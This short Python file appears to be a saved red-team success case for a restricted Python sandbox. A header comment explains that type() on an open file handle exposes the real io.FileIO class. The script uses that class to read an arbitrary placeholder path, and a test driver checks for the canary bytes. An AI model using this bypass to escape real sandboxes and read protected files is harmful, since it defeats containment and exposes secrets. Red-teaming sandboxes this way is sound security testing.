# (d) type() returns the real io.FileIO class from an open() handle in W; FileIO opens any path unguarded; driver sees result == canary bytes from {CANARY}
# red team 2026-12-07, docs/redteam-2026-12-07/success_03_type_fileio_read.py.txt
f = open("seed.txt", "w")
FileIO = type(f.buffer.raw)
result = FileIO("{CANARY}").read()
print(result)
